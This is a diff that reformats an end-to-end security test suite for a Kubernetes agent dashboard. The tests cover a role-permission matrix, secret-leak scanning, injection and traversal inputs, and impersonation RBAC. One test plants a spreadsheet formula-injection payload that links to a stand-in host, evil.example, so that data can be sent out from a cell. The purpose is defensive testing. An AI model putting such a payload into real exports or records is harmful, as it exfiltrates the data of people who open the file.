@@ -14,14 +14,31 @@ import path from 'node:path';
 import { signIn, signedInRequests } from './support/session';
 import { E2E, e2eState, cluster } from './support/env';
 import { seededAgents } from './support/seed-truth';
-import { actionEntries, CLUSTER_ID, dashboardLogPath, fillTemplate, pageTemplates, readPodConfigs, ROLES, routeEntries, type Role } from './support/trust';
+import {
+  actionEntries,
+  CLUSTER_ID,
+  dashboardLogPath,
+  fillTemplate,
+  pageTemplates,
+  readPodConfigs,
+  ROLES,
+  routeEntries,
+  type Role,
+} from './support/trust';
 
 type Agent = { namespace: string; name: string };
 
 /** The seed's secret values (tokens, keys, bot token, MCP secrets); the seed module is ESM-only, so ask tsx. */
 function seedSecretMarkers(): string[] {
   const root = path.resolve(__dirname, '..');
-  const out = execFileSync(path.join(root, 'node_modules/.bin/tsx'), ['-e', "import('./devcluster/seed/index.ts').then((m) => console.log(JSON.stringify((m.DEMO_SECRET_MARKERS ?? m.default.DEMO_SECRET_MARKERS))))"], { cwd: root, encoding: 'utf8' });
+  const out = execFileSync(
+    path.join(root, 'node_modules/.bin/tsx'),
+    [
+      '-e',
+      "import('./devcluster/seed/index.ts').then((m) => console.log(JSON.stringify((m.DEMO_SECRET_MARKERS ?? m.default.DEMO_SECRET_MARKERS))))",
+    ],
+    { cwd: root, encoding: 'utf8' },
+  );
   return JSON.parse(out.trim().split('\n').at(-1)!);
 }
 
@@ -90,8 +107,16 @@ test('the page, route and action × role matrix', async ({ browser, request }) =
     const row = [`action ${a.name} (${a.role})`];
     for (const role of who) {
       const ctx = role === 'none' ? request : await as(browser, role);
-      const body = await (await ctx.post(a.page, { headers: { 'Next-Action': a.id, 'Content-Type': 'text/plain;charset=UTF-8' }, data: '[{}]' })).text();
-      const verdict = /Sign in again/.test(body) ? 'no-session' : /This needs the \w+ role/.test(body) ? 'role' : /Too many actions/.test(body) ? 'throttled' : 'allowed';
+      const body = await (
+        await ctx.post(a.page, { headers: { 'Next-Action': a.id, 'Content-Type': 'text/plain;charset=UTF-8' }, data: '[{}]' })
+      ).text();
+      const verdict = /Sign in again/.test(body)
+        ? 'no-session'
+        : /This needs the \w+ role/.test(body)
+          ? 'role'
+          : /Too many actions/.test(body)
+            ? 'throttled'
+            : 'allowed';
       row.push(verdict);
       const allowed = role !== 'none' && ROLES.indexOf(role) >= ROLES.indexOf(a.role);
       if (verdict !== 'throttled') expect(verdict === 'allowed', `${a.name} as ${role}`).toBe(allowed);
@@ -100,15 +125,25 @@ test('the page, route and action × role matrix', async ({ browser, request }) =
   }
   const width = Math.max(...rows.map((r) => r[0].length));
   console.log(
-    [`${'entry point'.padEnd(width)}  ${who.map((w) => w.padEnd(9)).join(' ')}`, ...rows.map((r) => `${r[0].padEnd(width)}  ${r.slice(1).map((c) => c.padEnd(9)).join(' ')}`)].join('\n') +
-      `\n${pages.length} pages, ${routes.length} route handlers, ${actions.length} server actions × ${who.length} roles`,
+    [
+      `${'entry point'.padEnd(width)}  ${who.map((w) => w.padEnd(9)).join(' ')}`,
+      ...rows.map(
+        (r) =>
+          `${r[0].padEnd(width)}  ${r
+            .slice(1)
+            .map((c) => c.padEnd(9))
+            .join(' ')}`,
+      ),
+    ].join('\n') + `\n${pages.length} pages, ${routes.length} route handlers, ${actions.length} server actions × ${who.length} roles`,
   );
 });
 
 test('no secret value appears in any page, route, header, log line or cluster Event', async ({ browser, request }) => {
   test.setTimeout(300_000);
   const state = e2eState();
-  const markers = [...new Set([...seedSecretMarkers(), state.cluster.discordBotToken, ...Object.values(state.cluster.tokens)])].filter((m) => m && m.length >= 12);
+  const markers = [...new Set([...seedSecretMarkers(), state.cluster.discordBotToken, ...Object.values(state.cluster.tokens)])].filter(
+    (m) => m && m.length >= 12,
+  );
   expect(markers.length).toBeGreaterThan(5);
   const agents = await codexAgents();
   const admin = await as(browser, 'admin');
@@ -125,7 +160,9 @@ test('no secret value appears in any page, route, header, log line or cluster Ev
   const visit = async (ctx: APIRequestContext, url: string, who: string) => {
     const res = await ctx.get(url, { maxRedirects: 0 });
     responses++;
-    const head = Object.entries(res.headers()).map(([k, v]) => `${k}: ${v}`).join('\n');
+    const head = Object.entries(res.headers())
+      .map(([k, v]) => `${k}: ${v}`)
+      .join('\n');
     scan(`${who} ${url} (headers)`, head);
     scan(`${who} ${url}`, (await res.body()).toString('latin1'));
   };
@@ -137,7 +174,8 @@ test('no secret value appears in any page, route, header, log line or cluster Ev
     for (const a of agents) {
       const f = fx.get(`${a.namespace}/${a.name}`)!;
       for (const p of pages.filter((t) => t.includes('['))) await visit(ctx, fillTemplate(p, a), role);
-      for (const r of routes.filter((x) => x.method === 'GET' && x.template.includes('['))) await visit(ctx, fillTemplate(r.template, a) + queryFor(r.route, f.pod), role);
+      for (const r of routes.filter((x) => x.method === 'GET' && x.template.includes('[')))
+        await visit(ctx, fillTemplate(r.template, a) + queryFor(r.route, f.pod), role);
       for (const img of f.images) {
         images++;
         await visit(ctx, img, role);
@@ -157,7 +195,9 @@ test('no secret value appears in any page, route, header, log line or cluster Ev
   const events = await control.call<{ items: unknown[] }>('GET', '/api/v1/events');
   await control.close();
   scan('cluster events', JSON.stringify(events));
-  console.log(`secret scan: ${markers.length} markers, ${responses} responses (${images} images, ${(bytes / 1e6).toFixed(1)} MB with the log and ${events.items.length} events): ${hits.length} hits`);
+  console.log(
+    `secret scan: ${markers.length} markers, ${responses} responses (${images} images, ${(bytes / 1e6).toFixed(1)} MB with the log and ${events.items.length} events): ${hits.length} hits`,
+  );
   expect(hits).toEqual([]);
   // The scan looked at real content: the log has audit lines or requests, the pages had agents.
   expect(responses).toBeGreaterThan(agents.length * 5);
@@ -181,13 +221,36 @@ test('injection and traversal inputs on every route parameter: refusals, never a
   for (const r of routeEntries().filter((x) => x.method === 'GET')) {
     const segments = [...r.template.matchAll(/\[(\w+)\]/g)].map((m) => m[1]);
     const baseQuery = new URLSearchParams(queryFor(r.route, pod));
-    const queryKeys = [...new Set([...baseQuery.keys(), 'pod', 'tail', 'path', 'v', 'download', 'format', 'agent', 'user', 'action', 'result', 'follow', 'previous', 'rollout'])];
+    const queryKeys = [
+      ...new Set([
+        ...baseQuery.keys(),
+        'pod',
+        'tail',
+        'path',
+        'v',
+        'download',
+        'format',
+        'agent',
+        'user',
+        'action',
+        'result',
+        'follow',
+        'previous',
+        'rollout',
+      ]),
+    ];
     for (const [label, value] of NASTY) {
       for (const seg of segments) {
-        const url = fillTemplate(r.template, { namespace: seg === 'namespace' ? value : agent.namespace, name: seg === 'name' ? value : agent.name }, seg === 'cluster' ? value : CLUSTER_ID) + `?${baseQuery}`;
+        const url =
+          fillTemplate(
+            r.template,
+            { namespace: seg === 'namespace' ? value : agent.namespace, name: seg === 'name' ? value : agent.name },
+            seg === 'cluster' ? value : CLUSTER_ID,
+          ) + `?${baseQuery}`;
         const res = await admin.get(url, { maxRedirects: 0 });
         results.push(`${r.template} [${seg}] ${label}: ${res.status()}`);
-        if (res.status() < 400 || res.status() >= 500) wrong.push(`${r.template} with ${label} in [${seg}]: ${res.status()} ${(await res.text()).slice(0, 200)}`);
+        if (res.status() < 400 || res.status() >= 500)
+          wrong.push(`${r.template} with ${label} in [${seg}]: ${res.status()} ${(await res.text()).slice(0, 200)}`);
       }
       for (const key of queryKeys) {
         const q = new URLSearchParams(baseQuery);
@@ -230,7 +293,10 @@ test('injection and traversal inputs on every server action field: {ok:false}, n
     const users = roleUsers(a.role);
     for (let attempt = 0; ; attempt++) {
       const ctx = await as(browser, users[(turn + attempt) % users.length]);
-      const res = await ctx.post(a.page, { headers: { 'Next-Action': a.id, 'Content-Type': 'text/plain;charset=UTF-8' }, data: JSON.stringify([input]) });
+      const res = await ctx.post(a.page, {
+        headers: { 'Next-Action': a.id, 'Content-Type': 'text/plain;charset=UTF-8' },
+        data: JSON.stringify([input]),
+      });
       sent++;
       const body = await res.text();
       expect(res.status(), `${a.name}`).toBeLessThan(500);
@@ -269,7 +335,9 @@ test('injection and traversal inputs on every server action field: {ok:false}, n
     expect(now.sha256, `${key} config.toml unchanged`).toBe(b.sha256);
   }
   expect(existsSync('/tmp/openab-pwned'), 'no command ran on the dashboard host').toBe(false);
-  console.log(`action injection: ${lines.length} inputs over ${actions.length} actions (${sent} requests): all refused; ${before.size} config.toml files unchanged`);
+  console.log(
+    `action injection: ${lines.length} inputs over ${actions.length} actions (${sent} requests): all refused; ${before.size} config.toml files unchanged`,
+  );
 });
 
 test('Impersonate-* headers from a browser never reach the cluster', async ({ browser }) => {
@@ -307,7 +375,13 @@ test('the audit trail: operators read and filter it, admins export it as formula
   const user = `=HYPERLINK("http://evil.example/?"&A1,"click") ${Date.now()}`;
   // An entry as logActivity writes it, with a name a spreadsheet would run as a formula.
   await control.call('POST', `/api/v1/namespaces/${agent.namespace}/events`, {
-    metadata: { generateName: `${agent.name}.`, namespace: agent.namespace, annotations: { 'openab.dev/audit': JSON.stringify({ user: { name: user, email: null, role: 'operator' }, action: 'restart', result: 'failure' }) } },
+    metadata: {
+      generateName: `${agent.name}.`,
+      namespace: agent.namespace,
+      annotations: {
+        'openab.dev/audit': JSON.stringify({ user: { name: user, email: null, role: 'operator' }, action: 'restart', result: 'failure' }),
+      },
+    },
     involvedObject: { apiVersion: 'apps/v1', kind: 'Deployment', name: agent.name, namespace: agent.namespace },
     reason: 'OpenABDashboardAction',
     message: `${user} (operator): restart failure`,
@@ -363,18 +437,25 @@ test('the audit trail: operators read and filter it, admins export it as formula
   await viewer.close();
 });
 
-test('impersonation mode: the person\'s Kubernetes RBAC decides what is offered and what is done', async ({ browser }) => {
+test("impersonation mode: the person's Kubernetes RBAC decides what is offered and what is done", async ({ browser }) => {
   test.setTimeout(180_000);
   const state = e2eState();
   const [agent] = await codexAgents();
   const control = cluster();
   const original = await control.call<object>('GET', '/_devcluster/rbac');
   // dashboard:viewer may only read; the group dashboard:operator may also exec, but not patch.
-  const read = { verbs: ['get', 'list', 'watch'], apiGroups: ['', 'apps'], resources: ['pods', 'pods/log', 'events', 'deployments', 'replicasets', 'namespaces', 'configmaps'] };
+  const read = {
+    verbs: ['get', 'list', 'watch'],
+    apiGroups: ['', 'apps'],
+    resources: ['pods', 'pods/log', 'events', 'deployments', 'replicasets', 'namespaces', 'configmaps'],
+  };
   await control.call('POST', '/_devcluster/rbac', {
     bindings: [
       { subjects: [{ kind: 'User', name: 'dashboard:viewer' }], rules: [read] },
-      { subjects: [{ kind: 'Group', name: 'dashboard:operator' }], rules: [read, { verbs: ['get', 'create'], apiGroups: [''], resources: ['pods/exec'] }] },
+      {
+        subjects: [{ kind: 'Group', name: 'dashboard:operator' }],
+        rules: [read, { verbs: ['get', 'create'], apiGroups: [''], resources: ['pods/exec'] }],
+      },
     ],
   });
   // A second server of the same build on the same cluster, in impersonation mode.
@@ -418,12 +499,19 @@ test('impersonation mode: the person\'s Kubernetes RBAC decides what is offered 
     await page.goto(agentPage);
     const actions = page.getByRole('region', { name: 'Actions' });
     await expect(actions.getByRole('button', { name: 'Restart agent' })).toBeDisabled();
-    await expect(actions.getByTestId('restart-disabled-reason')).toHaveText(`The cluster does not allow your Kubernetes identity (dashboard:operator) to patch deployments in ${agent.namespace}.`);
+    await expect(actions.getByTestId('restart-disabled-reason')).toHaveText(
+      `The cluster does not allow your Kubernetes identity (dashboard:operator) to patch deployments in ${agent.namespace}.`,
+    );
     // Exec is allowed through the operator group: the settings are offered.
     await expect(actions.getByTestId('approval-disabled-reason')).toHaveCount(0);
     const restart = actionEntries((t) => fillTemplate(t, agent)).find((a) => a.name === 'restartAgentAction')!;
     const call = (headers: Record<string, string> = {}) =>
-      page.request.post(agentPage, { headers: { 'Next-Action': restart.id, 'Content-Type': 'text/plain;charset=UTF-8', ...headers }, data: JSON.stringify([{ clusterId: CLUSTER_ID, namespace: agent.namespace, name: agent.name }]) }).then((r) => r.text());
+      page.request
+        .post(agentPage, {
+          headers: { 'Next-Action': restart.id, 'Content-Type': 'text/plain;charset=UTF-8', ...headers },
+          data: JSON.stringify([{ clusterId: CLUSTER_ID, namespace: agent.namespace, name: agent.name }]),
+        })
+        .then((r) => r.text());
     const refused = await call();
     expect(refused).toMatch(/"ok":false/);
     expect(refused).toMatch(/refused .*\(403\).*User \\?"dashboard:operator\\?" cannot patch resource \\?"deployments\\?"/);
